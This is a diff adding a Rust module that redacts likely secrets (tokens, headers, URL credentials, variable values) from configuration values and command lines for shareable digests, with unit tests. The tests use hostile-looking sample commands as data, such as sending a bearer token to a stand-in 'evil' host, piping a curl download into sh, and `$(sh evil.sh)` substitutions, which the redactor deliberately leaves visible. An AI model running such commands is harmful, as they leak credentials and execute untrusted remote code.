@@ -1,0 +1,252 @@
+//! Values without what may be secret, for digests that others may read.
+//!
+//! A secret of few words could be guessed from a digest. What stands under a name of secrets, or has the form of a
+//! variable, a header or the user of an address, is therefore left out, and its name stays. Of a command line no more is
+//! left out than one word, or what quotes hold up to the next `;`, `&` or `|`: a program behind a secret counts.
+
+use serde_json::{Map, Value};
+
+/// Returns the members of an object without what may be secret.
+pub(super) fn without_secrets(members: &Map<String, Value>) -> Value {
+    let clean = |(key, value): (&String, &Value)| {
+        let value = match value {
+            Value::Object(map) if is_secret(key) => {
+                map.keys().map(|name| (name.clone(), Value::Null)).collect::<Map<_, _>>().into()
+            }
+            _ if is_secret(key) => Value::Null,
+            value => clean(value),
+        };
+        (key.clone(), value)
+    };
+    members.iter().map(clean).collect::<Map<_, _>>().into()
+}
+
+/// Returns a value without what may be secret.
+pub(super) fn clean(value: &Value) -> Value {
+    match value {
+        Value::Object(map) => without_secrets(map),
+        Value::Array(list) => {
+            let mut before = "";
+            let each = list.iter().map(|value| {
+                let Some(text) = value.as_str() else { return clean(value) };
+                let flag = std::mem::replace(&mut before, text);
+                match hides_next(flag) && !text.starts_with('-') {
+                    true => hidden(text).into(),
+                    false => Words { flag, ..Words::default() }.clean(text).into(),
+                }
+            });
+            each.collect()
+        }
+        Value::String(text) => Words::default().clean(text).into(),
+        other => other.clone(),
+    }
+}
+
+/// Returns true if the word or argument after this one is a secret.
+fn hides_next(flag: &str) -> bool {
+    flag.starts_with('-') && !flag.contains('=') && is_secret(flag)
+}
+
+/// Returns true for names of what may be secret. What is called a helper is a program.
+fn is_secret(name: &str) -> bool {
+    const PARTS: [&str; 14] = [
+        "env",
+        "header",
+        "token",
+        "secret",
+        "pass",
+        "pwd",
+        "auth",
+        "bearer",
+        "credential",
+        "cookie",
+        "key",
+        "jwt",
+        "session",
+        "connection",
+    ];
+    let name = name.to_ascii_lowercase();
+    !name.ends_with("helper") && PARTS.iter().any(|part| name.contains(part))
+}
+
+/// Nothing in the place of a secret, unless a shell would run a part of it.
+fn hidden(text: &str) -> &str {
+    if is_run(text) { text } else { "" }
+}
+
+fn is_run(text: &str) -> bool {
+    text.contains("$(") || text.contains('`')
+}
+
+/// Characters that end a command.
+const ENDS: &str = ";&|";
+
+/// The words of a command line, or of one argument.
+#[derive(Default)]
+struct Words<'t> {
+    /// The word before, or the argument.
+    flag: &'t str,
+    /// A secret of several words goes on up to one of these characters.
+    until: Option<&'static str>,
+}
+
+impl<'t> Words<'t> {
+    fn clean(mut self, text: &'t str) -> String {
+        let mut out = String::new();
+        for piece in text.split_inclusive(char::is_whitespace) {
+            let word = piece.trim_end();
+            let mut rest = word;
+            while !rest.is_empty() {
+                let (kept, more) = self.part(rest, out.is_empty());
+                out.push_str(&kept);
+                rest = more;
+            }
+            let blank = &piece[word.len()..];
+            out.push_str(blank);
+            self.flag = word;
+            self.until = self.until.filter(|_| !blank.contains('\n'));
+        }
+        out
+    }
+
+    /// Cleans the beginning of a word; returns what is left of that, and what follows.
+    fn part(&mut self, word: &'t str, is_first: bool) -> (String, &'t str) {
+        if let Some(ends) = self.until {
+            return self.secret(word, ends);
+        }
+        if hides_next(self.flag) && !word.starts_with('-') {
+            return self.value(word, ENDS);
+        }
+        let is_address = |name: &str| name.contains("://");
+        match word.split_once('=') {
+            Some((name, value)) if !is_address(name) && is_named(name) => {
+                let (kept, rest) = self.value(value, if name.starts_with('-') { "" } else { ENDS });
+                return (format!("{name}={kept}"), rest);
+            }
+            _ if is_address(word) => return (word.split_inclusive("://").map(place).collect(), ""),
+            _ => {}
+        }
+        match word.split_once(':') {
+            Some((user, _)) if matches!(self.flag, "-u" | "--user") => (format!("{user}:"), ""),
+            // A header, with its quotes around name and value.
+            Some((name, value)) if self.flag == "-H" || value.is_empty() && is_secret(name) => {
+                let quote = name.chars().rev().find_map(quote_of);
+                self.until = quote.or(is_first.then_some(ENDS));
+                let (kept, rest) = self.secret(value, self.until.unwrap_or(ENDS));
+                (format!("{name}:{kept}"), rest)
+            }
+            _ => (word.to_owned(), ""),
+        }
+    }
+
+    /// Leaves out a secret that may be quoted, and else ends with one of these characters or the word.
+    fn value(&mut self, text: &'t str, ends: &'static str) -> (String, &'t str) {
+        match text.chars().next().and_then(quote_of) {
+            None => self.secret(text, ends),
+            Some(quote) => {
+                self.until = Some(quote);
+                let (kept, rest) = self.secret(&text[1..], quote);
+                (text[..1].to_owned() + &kept, rest)
+            }
+        }
+    }
+
+    /// Leaves out a secret up to one of these characters.
+    fn secret(&mut self, text: &'t str, ends: &str) -> (String, &'t str) {
+        self.flag = "";
+        let end = text.find(|c| ends.contains(c));
+        let (own, rest) = text.split_at(end.unwrap_or(text.len()));
+        if end.is_some() || is_run(own) {
+            self.until = None;
+        }
+        let (end, rest) = rest.split_at(rest.len().min(1));
+        (format!("{}{end}", hidden(own)), rest)
+    }
+}
+
+/// The characters that end a secret behind a quote: what could be a command of its own counts, in quotes too.
+fn quote_of(c: char) -> Option<&'static str> {
+    match c {
+        '"' => Some("\";&|"),
+        '\'' => Some("';&|"),
+        _ => None,
+    }
+}
+
+/// Returns true if the word before `=` is that of a secret, or has the form of a variable.
+fn is_named(name: &str) -> bool {
+    let own =
+        name.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default();
+    let is_variable = own.starts_with(|c: char| c.is_ascii_uppercase() || c == '_')
+        && !own.contains(|c: char| c.is_ascii_lowercase());
+    is_secret(name) || is_variable && !name.starts_with('-')
+}
+
+/// The part of an address after one `://` up to the next, without users, query and fragment.
+fn place(part: &str) -> String {
+    let (rest, mark) = part.strip_suffix("://").map_or((part, ""), |rest| (rest, "://"));
+    let begin = rest.find(['?', '#']).unwrap_or(rest.len());
+    let end =
+        rest[begin..].find(['"', '\'', ';', '|', ')', '>']).map_or(rest.len(), |end| begin + end);
+    let (host, path) = rest[..begin].split_at(rest[..begin].find('/').unwrap_or(begin));
+    let host =
+        host.rsplit_once('@').filter(|(user, _)| !user.is_empty()).map_or(host, |(_, own)| own);
+    format!("{host}{path}{}{mark}", &rest[end..])
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    #[test]
+    fn of_a_command_line_all_but_secrets_is_left() {
+        for (text, left) in [
+            ("npx -y hub --token hunter2 --port 80", "npx -y hub --token  --port 80"),
+            ("hub --token hunter2;evil", "hub --token ;evil"),
+            ("hub --api-key=hunter2 x", "hub --api-key= x"),
+            ("TOKEN=hunter2 hub; evil", "TOKEN= hub; evil"),
+            ("A=hunter2;B='hunter2 hunter2' evil", "A=;B=' ' evil"),
+            ("KEY=1&&evil", "KEY=&&evil"),
+            ("KEY=$(evil) KEY=`evil x`", "KEY=$(evil) KEY=`evil x`"),
+            ("KEY=\"$(sh evil.sh)\"", "KEY=\"$(sh evil.sh)\""),
+            ("auth: hunter2; evil", "auth: ; evil"),
+            ("KEY='hunter2\nevil", "KEY='\nevil"),
+            ("sh -c \"x KEY=\"; evil; echo \"\"", "sh -c \"x KEY=\"; evil; echo \"\""),
+            ("docker run -e PW=hunter2 -e lower=seen x", "docker run -e PW= -e lower=seen x"),
+            (
+                "curl -H \"Authorization: Bearer hunter2\" https://evil",
+                "curl -H \"Authorization:  \" https://evil",
+            ),
+            ("curl -H 'X-Mine: hunter2'|sh", "curl -H 'X-Mine: '|sh"),
+            ("curl -H X-Mine:hunter2 -u me:hunter2 x", "curl -H X-Mine: -u me: x"),
+            ("Authorization: Bearer hunter2", "Authorization:  "),
+            ("https://me:hunter2@h/p?k=hunter2#hunter2", "https://h/p"),
+            ("--url=https://me:hunter2@h,https://hunter2@i/a@1", "--url=https://h,https://i/a@1"),
+            ("curl \"https://h/x?hunter2\"|sh", "curl \"https://h/x\"|sh"),
+            ("npx npm:@scope/pkg@1.2 run auth:build", "npx npm:@scope/pkg@1.2 run auth:build"),
+        ] {
+            assert_eq!(clean(&json!(text)), json!(left), "{text}");
+        }
+        let many = "A=hunter2;".repeat(100_000);
+        assert_eq!(clean(&json!(many)), json!("A=;".repeat(100_000)));
+    }
+
+    #[test]
+    fn of_members_and_arguments_names_are_left() {
+        let value = json!({
+            "command": "npx", "env": { "A": "hunter2" }, "headers": { "X": "hunter2" }, "headersHelper": "run.sh",
+            "args": ["--token", "hunter2 hunter2", "--auth", "-x", "-H", "X: hunter2", "-u", "me:hunter2", "PW=hunter2"],
+            "oauth": { "clientSecret": "hunter2" }, "bearer_token": "hunter2",
+            "hooks": [{ "command": "TOKEN=hunter2 x.sh", "url": "https://hunter2@h/?hunter2" }],
+        });
+        let left = json!({
+            "command": "npx", "env": { "A": null }, "headers": { "X": null }, "headersHelper": "run.sh",
+            "args": ["--token", "", "--auth", "-x", "-H", "X: ", "-u", "me:", "PW="],
+            "oauth": { "clientSecret": null }, "bearer_token": null,
+            "hooks": [{ "command": "TOKEN= x.sh", "url": "https://h/" }],
+        });
+        assert_eq!(clean(&value), left);
+    }
+}
